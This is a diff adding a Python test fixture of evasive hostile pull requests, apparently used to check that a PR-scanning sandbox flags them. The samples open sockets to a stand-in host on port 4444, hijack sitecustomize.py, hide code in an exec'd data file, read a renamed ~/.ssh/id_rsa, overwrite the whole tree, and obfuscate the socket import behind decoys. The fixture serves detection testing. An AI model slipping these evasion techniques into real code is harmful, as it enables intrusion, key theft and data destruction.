@@ -1,0 +1,93 @@
+"""Hostile pull requests that once ended green, or less red than they should: each is a hole that was closed."""
+
+from __future__ import annotations
+
+from typing import Final
+
+from tests.e2e.pulls import Pull
+
+_CONNECTS = "import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect_ex(('203.0.113.7', {port}))\n"
+
+EVASIVE: Final = (
+    # A stream to port 53 was taken for a look-up, and a look-up that showed its name hid it.
+    Pull(
+        name="port-53-as-cover",
+        head={
+            "src/pricing/x.py": _CONNECTS.format(port=53)
+            + "try:\n    socket.getaddrinfo('x.local', 80)\nexcept OSError:\n    pass\n"
+        },
+        verdicts=("fail",),
+        rules=("new-outbound-connection",),
+    ),
+    # Nobody waits for a daemon thread.
+    Pull(
+        name="waits-in-a-thread",
+        head={
+            "src/pricing/x.py": "import threading\n\n\ndef work():\n    threading.Event().wait(30)\n\n\n"
+            "threading.Thread(target=work, daemon=True).start()\n"
+        },
+        verdicts=("inconclusive",),
+        rules=("early-exit",),
+    ),
+    # Every interpreter has a module of this name already: importing it ran another file.
+    Pull(
+        name="named-like-a-loaded-module",
+        head={"sitecustomize.py": _CONNECTS.format(port=4444)},
+        verdicts=("fail",),
+        rules=("new-outbound-connection",),
+    ),
+    # The change touches no code at all.
+    Pull(
+        name="data-that-old-code-executes",
+        base={
+            "src/pricing/rules.py": "import pathlib\n\nexec((pathlib.Path(__file__).parent / 'rules.dat').read_text())\n",
+            "src/pricing/rules.dat": "A = 1\n",
+        },
+        head={"src/pricing/rules.dat": _CONNECTS.format(port=4444)},
+        verdicts=("fail",),
+        rules=("new-outbound-connection",),
+    ),
+    # A secret under another name is no planted secret any more.
+    Pull(
+        name="moves-the-secret-first",
+        head={
+            "src/pricing/x.py": "import os\n\nos.rename(os.path.expanduser('~/.ssh'), '/tmp/y')\n"
+            "open('/tmp/y/id_rsa').read()\n"
+        },
+        verdicts=("fail",),
+        rules=("canary-read",),
+    ),
+    # Opening with O_CREAT looks like making a file.
+    Pull(
+        name="overwrites-the-tree",
+        head={
+            "src/pricing/x.py": """
+                import pathlib
+
+                for path in list(pathlib.Path(__file__).parents[2].rglob("*")):
+                    if path.is_file():
+                        path.write_bytes(b"LOCKED")
+                """
+        },
+        verdicts=("fail",),
+        rules=("write-outside-scratch",),
+    ),
+    # Base "did" it too: as a sample that nobody imports.
+    Pull(
+        name="sample-becomes-product",
+        base={"tests/samples/caller.py": _CONNECTS.format(port=4444)},
+        head={"tests/samples/caller.py": None, "src/pricing/caller.py": _CONNECTS.format(port=4444)},
+        verdicts=("fail",),
+        rules=("new-outbound-connection",),
+    ),
+    # Calls that end or hold up the process, in front of the one that matters.
+    Pull(
+        name="payload-behind-decoys",
+        head={
+            "src/pricing/x.py": "import os\nimport socket\n\n\n"
+            + "".join(f"def d{n}():\n    os._exit(0) or socket or exec or eval\n\n\n" for n in range(12))
+            + "def go():\n    k = __import__('soc' + 'ket')\n    k.create_connection(('203.0.113.7', 4444), 1)\n"
+        },
+        verdicts=("fail", "inconclusive"),
+    ),
+)
